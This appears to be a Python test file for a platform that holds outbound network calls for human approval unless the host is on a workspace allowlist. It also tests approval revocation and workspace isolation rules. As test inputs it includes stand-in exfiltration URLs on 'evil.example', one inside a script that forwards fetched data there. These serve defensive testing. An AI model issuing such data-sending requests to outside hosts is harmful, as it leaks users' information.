"""A workspace's list of hosts and its isolation: what they let pass without a person, and what is bound to them."""

import pytest

from approvals.models import Approval
from approvals.services.rules import SaveRule, save_rule
from executions.models import Call, Execution, Workspace
from executions.services import catalog
from executions.services.calls import run
from executions.services.holds import still_holds
from executions.services.workspaces import ChangeWorkspace, change_workspace
from executions.states import ISOLATIONS, Isolation, WorkspaceKind
from forge_project.kernel.errors import Invalid
from forge_project.ledger import selectors
from tests import fetch
from tests.db.executions import answer, run_all, send

pytestmark = pytest.mark.django_db(transaction=True)
HERE = "https://api.example.com/v1?q=a"


@pytest.fixture(autouse=True)
def _known(settings):
    settings.FORGE_LINGER_MS = 0
    for kind in (fetch.Fetch, fetch.Look, fetch.Ask):
        catalog.registry().add(kind())
    yield
    for kind in (fetch.Fetch, fetch.Look, fetch.Ask):
        del catalog.registry()._by_name[kind.name]


@pytest.fixture
def listed(workspace):
    Workspace.objects.update(network_hosts=["api.example.com", "files.example.org:8443"])


def end(execution):
    done = Execution.objects.get(pk=execution.ref)
    return done.status, done.error_code


def fetched(caller, runtime, capability="outward.fetch", *, where="ws", key="k1", **given):
    sent = send(caller, key, capability=capability, input={"urls": [HERE]} | given, workspace=where)
    run_all(runtime)
    return sent


@pytest.mark.parametrize("capability", ["outward.fetch", "outward.look"])
@pytest.mark.parametrize(
    "given",
    [
        {},
        {"method": "HEAD"},
        {"urls": ["http://API.example.com./"]},
        {"urls": [HERE, "https://files.example.org:8443/a"]},
    ],
)
def test_a_read_of_a_listed_host_passes(caller, listed, runtime, capability, given):
    sent = fetched(caller, runtime, capability, **given)
    assert (end(sent), Approval.objects.count()) == (("succeeded", ""), 0)
    said = [selectors.payload(one) for one in selectors.events(sent.ref) if one.kind == "policy.decided"]
    assert [(one["actions"]["forge"]["decision"], one["actions"]["forge"]["rule"]) for one in said] == [
        ("ALLOW", "default")
    ]


@pytest.mark.parametrize("capability", ["outward.fetch", "outward.look"])
@pytest.mark.parametrize(
    "given",
    [
        {"method": "POST"},
        {"method": "get"},
        {"method": ""},
        {"urls": ["https://evil.example/?stolen=1"]},
        {"urls": ["https://api.example.com.evil.example/"]},
        {"urls": ["https://sub.api.example.com/"]},
        {"urls": ["https://api.example.com:8443/"]},
        {"urls": ["https://files.example.org/"]},
        {"urls": [HERE, "https://evil.example/?stolen=1"]},
        {"urls": ["no url"]},
    ],
)
def test_all_else_that_goes_out_is_looked_at(caller, listed, runtime, capability, given):
    sent = fetched(caller, runtime, capability, **given)
    assert (end(sent), Call.objects.get().status) == (("waiting_approval", ""), "awaiting_approval")


@pytest.mark.parametrize("capability", ["outward.fetch", "outward.look", "outward.ask"])
def test_without_a_list_every_way_out_is_looked_at(caller, workspace, runtime, capability):
    assert end(fetched(caller, runtime, capability)) == ("waiting_approval", "")


def test_an_internal_call_that_goes_out_is_looked_at_wherever_it_goes(caller, listed, runtime):
    assert end(fetched(caller, runtime, "outward.ask")) == ("waiting_approval", "")


def test_in_a_script_each_call_is_judged_by_where_it_goes(caller, listed, runtime):
    script = """const get = (name, url) => tools.call(name, {urls: [url]});
    const done = await get("outward.look", "https://api.example.com/a");
    await get("outward.look", "https://evil.example/?q=" + done.urls[0]);"""
    sent = send(caller, source=script, workspace="ws")
    run_all(runtime)
    assert end(sent) == ("waiting_approval", "")
    assert list(Call.objects.order_by("n").values_list("status", flat=True)) == ["succeeded", "awaiting_approval"]


def test_a_rule_still_comes_first(caller, listed, runtime, approver):
    save_rule(SaveRule(name="no", priority=1, capability="outward.*", decision="DENY", author=approver))
    assert end(fetched(caller, runtime)) == ("failed", "POLICY_DENIED")


def test_a_rule_may_speak_of_where_it_goes(caller, workspace, runtime, approver):
    condition = 'target.method == "GET" && target.hosts.all(h, h.endsWith(".example.com:443"))'
    rule = {"name": "ours", "priority": 1, "capability": "outward.*", "decision": "ALLOW", "condition": condition}
    save_rule(SaveRule(author=approver, **rule))
    assert end(fetched(caller, runtime)) == ("succeeded", "")
    assert end(fetched(caller, runtime, key="k2", urls=["https://evil.example/"])) == ("waiting_approval", "")


@pytest.mark.parametrize(
    ("says", "isolation", "ends"),
    [
        ({"isolation": "per_execution"}, "per_execution", "succeeded"),
        ({"isolation": "per_execution"}, "shared", "waiting_approval"),
        ({"workspace_kind": "directory"}, "shared", "succeeded"),
        ({"workspace_kind": "git"}, "shared", "waiting_approval"),
    ],
)
def test_a_rule_may_ask_for_the_workspaces_kind_and_isolation(
    caller, workspace, runtime, approver, says, isolation, ends
):
    Workspace.objects.update(isolation=isolation)
    save_rule(SaveRule(name="own", priority=1, capability="file.write", decision="ALLOW", author=approver, **says))
    sent = send(caller, capability="file.write", input={"path": "a", "content": "x"}, workspace="ws")
    run_all(runtime)
    assert Execution.objects.get(pk=sent.ref).status == ends


@pytest.mark.parametrize("capability", ["outward.fetch", "outward.look"])
def test_a_host_taken_off_the_list_counts_at_the_very_dispatch(caller, listed, runtime, monkeypatch, capability):
    """The attempt has the workspace as it was at its claim; the transaction of the dispatch reads it again."""
    from executions.services import turns

    real = turns.pose

    def pose(*args):
        Workspace.objects.update(network_hosts=["other.example"])
        return real(*args)

    monkeypatch.setattr(turns, "pose", pose)
    assert end(fetched(caller, runtime, capability)) == ("waiting_approval", "")


def test_a_host_taken_off_between_verdict_and_effect(caller, listed, runtime, monkeypatch):
    from executions.services import calls

    def late(job):
        Workspace.objects.update(network_hosts=[])
        return run(job)

    monkeypatch.setattr(calls, "run", late)
    assert end(fetched(caller, runtime)) == ("waiting_approval", "")


CHANGES = {
    "a host more": {"network_hosts": ["api.example.com", "files.example.org:8443", "evil.example"]},
    "a host less": {"network_hosts": ["files.example.org:8443"]},
    "no hosts": {"network_hosts": []},
    "isolation": {"isolation": "per_execution"},
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES.keys())
@pytest.mark.parametrize("capability", ["outward.fetch", "outward.look"])
def test_what_was_approved_is_refused_once_the_workspace_lets_other_things_pass(
    caller, listed, runtime, approver, change, capability
):
    sent = fetched(caller, runtime, capability, method="POST")
    asked = Approval.objects.get()
    assert still_holds(asked) is True
    answer(asked, approver)
    Workspace.objects.update(**change)
    assert still_holds(asked) is False
    run_all(runtime)
    asked.refresh_from_db()
    assert (end(sent), asked.state) == (("failed", "APPROVAL_INVALID"), "revoked")


def test_nothing_changed_and_it_is_done(caller, listed, runtime, approver):
    sent = fetched(caller, runtime, method="POST")
    answer(Approval.objects.get(), approver)
    Workspace.objects.update(hosts=["test-host", "another-host"])  # who serves it is no part of what it lets pass
    run_all(runtime)
    assert end(sent) == ("succeeded", "")


def test_an_approval_of_a_plain_workspace_is_bound_as_it_was_before_there_were_lists(caller, workspace, runtime):
    from executions.services.asking import bound_scope

    sent = fetched(caller, runtime)
    assert bound_scope(Execution.objects.get(pk=sent.ref)) == {"caller": "user:robo", "workspace": "ws"}


def test_only_a_kind_that_can_keep_executions_apart_says_that_it_does(workspace, monkeypatch):
    """A rule may let writes pass for that: a directory that all work in must not claim it."""
    asked = ChangeWorkspace(name="ws", isolation="per_execution")
    with pytest.raises(Invalid) as refused:
        change_workspace(asked)
    assert refused.value.facts["path"] == "/isolation"
    monkeypatch.setitem(ISOLATIONS, WorkspaceKind.DIRECTORY, frozenset(Isolation))
    assert change_workspace(asked).isolation == "per_execution"
    said = selectors.payload(list(selectors.events("forge:governance"))[-1])["actions"]["forge"]
    assert (said["fact"], said["isolation"], said["was"]) == ("workspace.changed", "per_execution", {
        "isolation": "shared"
    })  # fmt: skip
